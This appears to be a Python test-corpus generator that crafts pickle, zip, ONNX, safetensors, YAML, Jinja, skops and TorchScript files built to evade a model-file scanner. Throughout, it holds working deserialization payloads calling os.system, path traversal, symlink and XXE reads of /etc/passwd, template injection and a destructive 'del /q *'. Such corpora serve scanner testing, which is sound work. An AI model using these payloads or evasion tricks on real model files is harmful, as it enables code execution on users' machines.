"""The second corpus of files that carry code: made to slip past these readers in particular.

Each was written after reading the scanner, against one of its steps: the memo, BUILD, the
constructors it allows, the sniffing of formats, names in zips, texts, graphs.
"""

from __future__ import annotations

import io
import json
import pickle  # noqa: TID251  writes hostile files, reads none
import struct
import zipfile
from collections.abc import Callable
from functools import cache

import numpy as np
from carriers import (
    CARRIERS,
    COMMAND,
    FIRST,
    MATMUL,
    Carrier,
    _legacy,
    _onnx,
    carrier,
    changed,
    joblib_array_as_opcodes,
    plain,
    program,
    reduced,
    script,
    stack_global,
    text,
    torch_zip,
    zipped,
)
from onnx import helper

OS = reduced("os", "system")


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


MORE_GADGETS = """
    torch._inductor.runtime.compile_tasks:_reload_python_module
    torch._inductor.codecache:PyCodeCache.load torch._dynamo.guards:GuardBuilder.get
    torch.distributed.rpc.internal:_run_function torch._utils_internal:justknobs_check
    torch.ao.quantization.fx.utils:os.system torch.fx.experimental.symbolic_shapes:eval
    torch.testing._internal.common_utils:shell torch.onnx._internal.io_adapter:pytree
    torch:_C._jit_import torch._C:import_ir_module torch:from_file torch:save numpy:savetxt
    numpy:memmap numpy:lib.npyio.DataSource.open numpy.lib._datasource:open numpy:vectorize
    numpy:frompyfunc sklearn.utils._joblib:load sklearn.externals._arff:load
    sklearn.utils.fixes:sp.os scipy.io:loadmat scipy._lib._ccallback:LowLevelCallable.from_cython
    pandas:eval pandas:read_pickle joblib.externals.loky.process_executor:_process_worker
    joblib._store_backends:concurrency_safe_write_rename transformers.utils.hub:cached_file
    transformers.dynamic_module_utils:get_class_in_module keras.saving:load_model
    tensorflow.python.framework.load_library:load_op_library builtins:breakpoint builtins:open
    builtins:compile builtins:map builtins:type io:FileIO io:open_code pathlib:Path.write_text
    pathlib:Path.unlink datetime:sys.modules collections:namedtuple collections:abc.sys
    uuid:_get_command_stdout uuid:os.system fractions:operator.attrgetter decimal:localcontext
    argparse:FileType types:CodeType types:MethodType _codecs:decode codecs:open
    copyreg:__newobj__ copyreg:add_extension operator:methodcaller itertools:starmap
    functools:reduce _io:open nturl2path:os.system tempfile:os.system unittest.mock:_importer
    lib2to3.pgen2.driver:load_grammar zipimport:zipimporter sqlite3:connect smtplib:SMTP
    ftplib:FTP urllib.request:urlopen http.client:HTTPConnection ssl:get_server_certificate
    signal:raise_signal faulthandler:_sigsegv resource:setrlimit gc:get_objects
    sys:setrecursionlimit site:execsitecustomize sysconfig:os.system pkgutil:resolve_name
    importlib.util:spec_from_file_location linecache:getlines inspect:getsource pydoc:locate
    profile:run PIL.ImageShow:register yaml:unsafe_load dill:loads cloudpickle:loads
"""


def _gadgets() -> None:
    """Functions of known libraries that run what they are given."""
    for pair in MORE_GADGETS.split():
        module, name = pair.split(":")
        CARRIERS[f"gadget_{module}.{name}"] = cache(
            lambda module=module, name=name: plain(
                reduced(module, name), name, (1, 4) if name[:1].isupper() else (1,)
            )
        )


_gadgets()

# The memo and numbers.


@carrier
def memo_index_of_four_thousand_digits() -> Carrier:
    """A reader that gives up on long numbers would fetch another entry."""
    head = b"V" + b"collections\np0\n0Vos\np1\n0VOrderedDict\np2\n0Vsystem\np3\n0"
    data = (
        head + b"g" + b"0" * 4100 + b"1\ng" + b"0" * 4100 + b"3\n\x93" + text(COMMAND) + b"\x85R."
    )
    return plain(data, "", (1, 4))


@carrier
def memo_of_an_earlier_pickle_in_the_file() -> Carrier:
    """Each of the five pickles of torch's old format begins with an empty memo."""
    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")
    first = magic + text("collections") + b"\x940" + text("OrderedDict") + b"\x940."
    body = b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93"
    rest = pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return plain(first + rest + body + text(COMMAND) + b"\x85R." + pickle.dumps([], 2),
                 "os.system", (1,), "m.pt")  # fmt: skip


@carrier
def text_number_in_another_base() -> Carrier:
    return plain(b"(I0x10\nI010\nl0" + reduced("os", "system", proto=0), "", (1, 4))


# Names that Python 2's table renames, in protocols that do not use it.


@carrier
def module_that_only_looks_renamed() -> Carrier:
    return plain(reduced("UserDict", "OrderedDict", "x", 4), "UserDict.OrderedDict", (1, 4))


# Calls without REDUCE.

LOAD = stack_global("torch.storage", "_load_from_bytes")
INNER = _legacy(OS)


def _stateful(target: bytes, key: str, opcode: bytes) -> bytes:
    return b"\x80\x04" + target + b"}" + text(key) + LOAD + b"sb" + _bytes(INNER) + opcode + b"."


ORDERED = stack_global("collections", "OrderedDict") + b")R"
SPACE = stack_global("argparse", "Namespace") + b")R"


@carrier
def setstate_put_on_a_dictionary() -> Carrier:
    return plain(_stateful(ORDERED, "__setstate__", b"b"), "__setstate__", (1,))


@carrier
def setstate_put_on_a_namespace() -> Carrier:
    return plain(_stateful(SPACE, "__setstate__", b"b"), "__setstate__", (1,))


@carrier
def append_put_on_a_namespace() -> Carrier:
    return plain(_stateful(SPACE, "append", b"a"), "append", (1,))


@carrier
def add_put_on_a_namespace() -> Carrier:
    data = b"\x80\x04" + SPACE + b"}" + text("add") + LOAD + b"sb(" + _bytes(INNER) + b"\x90."
    return plain(data, "add", (1,))


@carrier
def setstate_through_slots() -> Carrier:
    data = b"\x80\x04" + ORDERED + b"N}" + text("__setstate__") + LOAD + b"s\x86b"
    return plain(data + _bytes(INNER) + b"b.", "__setstate__", (1,))


@carrier
def setstate_computed_by_encoding() -> Carrier:
    """The key is no text in the file."""
    key = stack_global("builtins", "str") + text("__setstate__") + b"\x85R"
    data = b"\x80\x04" + ORDERED + b"}" + key + LOAD + b"sb" + _bytes(INNER) + b"b."
    return plain(data, "", (1, 4))


@carrier
def typed_tensor_that_loads() -> Carrier:
    data = b"\x80\x04" + stack_global("torch._tensor", "_rebuild_from_type_v2") + b"(" + LOAD
    data += stack_global("torch", "Tensor") + _bytes(INNER) + b"\x85}tR."
    return plain(data, "os.system", (1,))


# Allowed constructors with arguments that eat a machine.


def _call(module: str, name: str, argument: bytes) -> bytes:
    return b"\x80\x04" + stack_global(module, name) + argument + b"\x85R."


HUGE = b"\x8a\x06" + (1 << 44).to_bytes(6, "little")
for _module, _name, _argument in (
    ("torch", "Tensor", HUGE), ("torch", "FloatStorage", HUGE),
    ("torch.storage", "UntypedStorage", HUGE),
    ("numpy", "ndarray", HUGE + b"\x85"), ("numpy", "void", HUGE), ("builtins", "bytearray", HUGE),
    ("builtins", "bytes", HUGE), ("fractions", "Fraction", text("1e1000000000")),
):  # fmt: skip
    CARRIERS[f"huge_{_module}.{_name}"] = cache(
        lambda module=_module, name=_name, argument=_argument: plain(
            _call(module, name, argument), name, (1, 3, 4)
        )
    )


@carrier
def huge_reconstruct() -> Carrier:
    data = b"\x80\x04" + stack_global("numpy._core.multiarray", "_reconstruct")
    data += stack_global("numpy", "ndarray") + HUGE + b"\x85C\x01b\x87R."
    return plain(data, "allocated", (1, 3, 4))


# Estimators: only names of scikit-learn and numpy, put together to run something.


def _estimator(inner: bytes) -> bytes:
    """A logistic regression whose state holds something else."""
    made = stack_global("sklearn.linear_model._logistic", "LogisticRegression") + b")\x81"
    return b"\x80\x04" + made + b"}" + text("C") + inner + b"sb."


for _label, _inner, _named in (
    ("generator_that_calls", stack_global("numpy.random._pickle", "__generator_ctor")
     + _bytes(INNER) + LOAD + b"\x86R", "_load_from_bytes"),
    ("class_that_opens_a_file", stack_global("sklearn.datasets._openml", "GzipFile")
     + text("/tmp/x") + text("w") + b"\x86R", "GzipFile"),
    ("function_of_a_transformer", stack_global("os", "system"), "os.system"),
    ("append_on_an_estimator", stack_global("sklearn.svm._classes", "SVC") + b")\x81}"
     + text("append") + LOAD + b"sb" + _bytes(INNER) + b"a", "append"),
    ("torch_inside", LOAD + _bytes(INNER) + b"\x85R", "os.system"),
    ("masked_array_of_terabytes", stack_global("numpy.ma.core", "_mareconstruct") + b"("
     + stack_global("numpy.ma.core", "MaskedArray") + stack_global("numpy", "ndarray")
     + HUGE + b"\x85C\x01btR", "_mareconstruct"),
    ("module_of_its_own", stack_global("sklearn_evil.svm", "SVC") + b")\x81", "sklearn_evil"),
    ("imported_function", stack_global("sklearn.pipeline", "clone") + b")R", "clone"),
):  # fmt: skip
    CARRIERS[f"estimator_{_label}"] = cache(
        lambda inner=_inner, named=_named: plain(_estimator(inner), named, (1, 4), "m.pkl")
    )


@carrier
def joblib_array_of_objects_that_wraps_another() -> Carrier:
    """joblib hands an array of objects to the plain unpickler, which knows no wrappers."""
    outer = b"\x80\x04" + stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    dtype = stack_global("numpy", "dtype") + text("O8") + b"\x85R"
    state = text("subclass") + stack_global("numpy", "ndarray") + text("shape") + b"K\x01\x85"
    state += text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x89ub"
    inner = joblib_array_as_opcodes().data
    return plain(outer + state + inner + b".", "os.system", (1,), "m.joblib")


# One file, two formats.


@carrier
def safetensors_that_is_a_pickle() -> Carrier:
    """BINUNICODE, then UNICODE up to the first line break, which lies in the tensor."""
    length = 0x58 + 256 * 5
    data = b"\n" + OS
    entry = {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}
    header = json.dumps({"V": entry}).encode().ljust(length)
    file = length.to_bytes(8, "little") + header + data
    assert file[:1] == b"X"
    return plain(file, "os.system", (1,), "m.pkl")


@carrier
def onnx_that_is_a_pickle() -> Carrier:
    """An operator-set message whose first bytes are BINBYTES and a length of nine megabytes."""
    length = 6 | 0x10 << 8 | 0x91 << 16
    first = b"\x42\x06\x10\x91\x00\x0a\x01\x00"
    filler = b"\0" * (length + 5 - len(first) - 10)
    body = filler + b"\0" * 10 + OS
    tensor = _varint_field(1, len(body)) + b"\x10\x02" + b"\x42\x01w" + _bytes_field(9, body)
    graph = _bytes_field(5, tensor)
    return plain(first + _onnx([MATMUL]) + _bytes_field(7, graph), "", (1, 3, 4), "m.pkl")


def _varint(value: int) -> bytes:
    found = bytearray()
    while value > 127:
        found.append(value & 127 | 128)
        value >>= 7
    return bytes([*found, value])


def _varint_field(number: int, value: int) -> bytes:
    return _varint(number << 3) + _varint(value)


def _bytes_field(number: int, data: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(data)) + data


@carrier
def tar_whose_first_name_is_a_pickle() -> Carrier:
    import tarfile

    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("cos\nsystem\n(S'id'\ntR."))
    return plain(body.getvalue(), "os.system", (1,))


@carrier
def picture_before_a_zip() -> Carrier:
    return plain(b"\x89PNG\r\n\x1a\n" + bytes(64) + torch_zip(OS), "os.system", (1,), "cat.png")


@carrier
def unknown_bytes_before_a_zip() -> Carrier:
    return plain(b"\x01\x02\x03\x04" * 9 + torch_zip(OS), "os.system", (1,), "m.pt")


@carrier
def page_before_a_zip() -> Carrier:
    return plain(b"%PDF-1.4\n%%EOF\n" + torch_zip(OS), "os.system", (1,), "card.pdf")


@carrier
def half_precision_array_that_is_a_torch_file() -> Carrier:
    body = io.BytesIO()
    np.save(body, np.frombuffer(torch_zip(OS), np.uint8))
    return plain(body.getvalue(), "os.system", (1,), "a.npy")


# Zips.


def _patched(change: Callable[[zipfile.ZipInfo], None], name: str, data: bytes) -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        info = zipfile.ZipInfo(name)
        change(info)
        archive.writestr(info, data)
    return body.getvalue()


@carrier
def link_in_a_zip() -> Carrier:
    def change(info: zipfile.ZipInfo) -> None:
        info.create_system, info.external_attr = 3, 0o120777 << 16

    return plain(_patched(change, "weights.txt", b"/etc/passwd"), "link", (1,), "d.zip")


@carrier
def second_name_in_an_extra_field() -> Carrier:
    def change(info: zipfile.ZipInfo) -> None:
        import zlib

        other = b"setup.py"
        body = b"\x01" + struct.pack("<I", zlib.crc32(b"notes.md")) + other
        info.extra = struct.pack("<HH", 0x7075, len(body)) + body

    return plain(_patched(change, "notes.md", b"hello"), "extra", (1, 3, 4), "d.zip")


@carrier
def payload_in_an_extra_field_of_the_directory() -> Carrier:
    body = OS.ljust(200)
    data = bytearray(zipped({"a.txt": b"hello"}))
    at = data.rfind(b"PK\x01\x02")
    data[at + 30 : at + 32] = struct.pack("<H", len(body) + 4)
    end = at + 46 + 5
    data[end:end] = struct.pack("<HH", 0x9999, len(body)) + body
    foot = data.rfind(b"PK\x05\x06")
    data[foot + 12 : foot + 16] = struct.pack("<I", foot - at)
    return plain(bytes(data), "extra", (1, 3, 4), "d.zip")


@carrier
def folder_with_content() -> Carrier:
    data = torch_zip(pickle.dumps({}, 2), **{"m/hook/": OS})
    return plain(data, "m/hook/", (1, 3, 4), "m.pt")


@carrier
def hook_beside_a_state_dict() -> Carrier:
    return plain(torch_zip(pickle.dumps({}, 2), **{"m/hook.pkl": OS}), "os.system", (1,), "m.pt")


@carrier
def names_that_differ_by_normalisation() -> Carrier:
    data = zipped({"caf\u00e9.txt": b"a", "cafe\u0301.txt": b"b"})
    return plain(data, "two members", (1, 3, 4), "d.zip")


@carrier
def names_in_another_code_page() -> Carrier:
    data = zipped({"\u00e4.txt": b"a"})
    for header in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(header) + (6 if header == b"PK\x03\x04" else 8)
        data = data[:at] + b"\0\0" + data[at + 2 :]
    return plain(data, "name", (1, 3, 4), "d.zip")


@carrier
def path_out_of_a_zip() -> Carrier:
    return plain(zipped({"../../.bashrc": b"id\n"}), "outside", (1,), "d.zip")


@carrier
def sizes_that_only_zip64_tells() -> Carrier:
    body = io.BytesIO()
    with (
        zipfile.ZipFile(body, "w") as archive,
        archive.open("m.txt", "w", force_zip64=True) as file,
    ):
        file.write(b"hello there, these are words")
    data = bytearray(body.getvalue())
    at = data.find(b"\x01\x00\x10\x00") + 4
    data[at : at + 8] = struct.pack("<Q", 5)
    return plain(bytes(data), "size", (1, 3, 4), "d.zip")


@carrier
def stored_member_with_two_sizes() -> Carrier:
    data = bytearray(zipped({"m/data.pkl": pickle.dumps({}, 2) + OS}))
    for header, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = data.find(header) + at
        data[start : start + 4] = struct.pack("<I", 5)
    return plain(bytes(data), "", (1, 3, 4), "m.pt")


@carrier
def packed_by_another_method() -> Carrier:
    return plain(zipped({"m/data.pkl": OS}, zipfile.ZIP_BZIP2), "os.system", (1,), "m.pt")


# Texts.


def _text(name: str, content: str, named: str = "", codes: tuple[int, ...] = (1, 4)) -> None:
    CARRIERS[f"text_{name}"] = cache(lambda: Carrier(content.encode(), named, codes, name))


_text("evil.py", "__import__('os').system('id')\n", "evil.py")
_text("one_line.py", "import os; os.system('id')\n", "one_line.py")
_text("__main__.py", "print(open('/etc/passwd').read())\n", "__main__.py")
_text("sitecustomize.pth", "import os; os.system('id')\n", "import os")
_text("hook.sh", "id > /tmp/x\n", "hook.sh")
_text("run.bat", "del /q *\n", "run.bat")
_text("x.js", "require('child_process')\n", "x.js")
_text("Makefile", "all:\n\tid\n", "Makefile")
_text("Dockerfile", "RUN id\n", "Dockerfile")
_text(
    "demo.ipynb",
    json.dumps({"cells": [{"cell_type": "code", "source": ["!id"]}], "nbformat": 4}),
    "ipynb",
)
_text("config.yaml", "a: !!python/object/apply:os.system ['id']\n", "!!python", (1,))
_text("conf.yml", "model:\n  _target_: os.system\n  command: id\n", "_target_")
_text("config.json", json.dumps({"text_config": {"auto_map": {"AutoModel": "m.Evil"}}}), "auto_map")
_text(
    "tokenizer_config.json",
    json.dumps({"chat_template": "{{ ''.__class__.__mro__ }}"}),
    "__class__",
    (1,),
)
_text("chat_template.jinja", "{{ x.__init__.__globals__.os.popen('id') }}", "__init__", (1,))
_text(
    "keras.json",
    json.dumps({"layers": [{"class_name": "Lambda", "config": {"function": ["4wEA"]}}]}),
    "Lambda",
    (1,),
)
_text(
    "keras_module.json",
    json.dumps({"module": "subprocess", "class_name": "run", "config": {}}),
    "subprocess",
    (1,),
)
_text("twice.json", '{"auto_map": {"a": "b"}, "auto_map": null}', "twice", (1, 3, 4))
_text("long.json", json.dumps({"pad": "x" * (9 << 20), "auto_map": {"a": "m.B"}}), "auto_map")
_text("late.cfg", "x\n" * (1 << 20) + "import os\n", "late.cfg")
_text(
    "custom.json", json.dumps({"custom_pipelines": {"x": {"impl": "m.Evil"}}}), "custom_pipelines"
)
_text(
    "pointer.safetensors",
    "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n",
    "LFS",
    (4,),
)
_text("model.xml", "<?xml version='1.0'?><net name='x'/>", "model.xml", (4,))
_text("x.pmml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "DOCTYPE", (1,))
_text("net.prototxt", 'layer { type: "Python" }', "net.prototxt", (4,))
_text("shards.json", json.dumps({"weight_map": {"w": "../../x.safetensors"}}), "outside", (1,))
_text("desktop.desktop", "[Desktop Entry]\nExec=id\n", "desktop")
_text("picture.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "picture.svg")
_text("plain_reduce.txt", "cos\nsystem\n(S'id'\ntR.", "os.system", (1,))


@carrier
def template_in_a_second_encoding() -> Carrier:
    return Carrier("import os\nos.system('id')\n".encode("utf-16"), "", (1, 4), "notes.txt")


# TorchScript, .pt2, skops, ONNX.

for _label, _new in {
    "alias_of_torch": b"t = torch\n    _0 = t.from_file(",
    "getattr_of_torch": b'_0 = getattr(torch, "from_file")(',
    "alias_of_ops": b"o = ops\n    _0 = o.aten.from_file(",
    "fork": b"_0 = fork(",
    "tuple_of_torch": b"t = (torch,)\n    _0 = t[0].from_file(",
}.items():
    CARRIERS[f"script_{_label}"] = cache(
        lambda new=_new: Carrier(
            changed(script(), ".py", b"return torch.linear(", new.replace(b"_0 =", b"return", 1)),
            ".py", (1, 4), "m.ts",
        )
    )  # fmt: skip


def _old_program(change: Callable[[dict[str, object]], None]) -> bytes:
    """The layout of torch 2.1 to 2.6: ``serialized_exported_program.json``."""
    members = program()
    document = json.loads(next(v for n, v in members.items() if n.endswith("models/model.json")))
    change(document)
    return zipped({
        "serialized_exported_program.json": json.dumps(document).encode(), "version": b"8.4",
        "serialized_state_dict.json": torch_zip(pickle.dumps({}, 2)),
    })  # fmt: skip


@carrier
def program_of_the_old_layout() -> Carrier:
    def change(document: dict[str, object]) -> None:
        document["range_constraints"] = {f"__import__('os').system('{COMMAND}')": {"min": 0}}

    return Carrier(_old_program(change), "serialized_exported_program", (1, 4), "m.pt2")


@carrier
def program_expression_of_the_old_layout() -> Carrier:
    def change(document: dict[str, object]) -> None:
        document["x"] = {"expr_str": f"__import__('os').system('{COMMAND}')"}

    return Carrier(_old_program(change), "expression", (1,), "m.pt2")


def _skops(node: dict[str, object]) -> bytes:
    schema = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {"a": node},
        "protocol": 2,
    }
    return zipped({"schema.json": json.dumps(schema).encode()})


for _label, _node in {
    "function": {"__loader__": "FunctionNode", "__module__": "os", "__class__": "system"},
    "type": {"__loader__": "TypeNode", "__module__": "subprocess", "__class__": "Popen"},
    "partial": {"__loader__": "PartialNode", "__module__": "functools", "__class__": "partial"},
    "method": {"__loader__": "MethodNode", "__module__": "os", "__class__": "system"},
    "operator": {"__loader__": "OperatorFuncNode", "__module__": "operator",
        "__class__": "methodcaller"},
    "object": {"__loader__": "ObjectNode", "__module__": "evil",
        "__class__": "Net", "content": None},
}.items():  # fmt: skip
    CARRIERS[f"skops_{_label}"] = cache(
        lambda node=_node: Carrier(_skops({**node, "__id__": 7}), "", (1, 4), "m.skops")
    )


for _domain, _kind in (("com.microsoft", "EPContext"), ("com.microsoft", "PythonOp"),
                       ("ai.onnx.contrib", "PyCustomOp"), ("ai.onnx.ml.evil", "Run")):  # fmt: skip
    CARRIERS[f"onnx_{_domain}_{_kind}"] = cache(
        lambda domain=_domain, kind=_kind: Carrier(
            _onnx([helper.make_node(kind, ["x"], ["z"], domain=domain), MATMUL]),
            f"{domain}::{kind}", (1,), "m.onnx",
        )
    )  # fmt: skip

SECOND = tuple(name for name in CARRIERS if name not in FIRST)
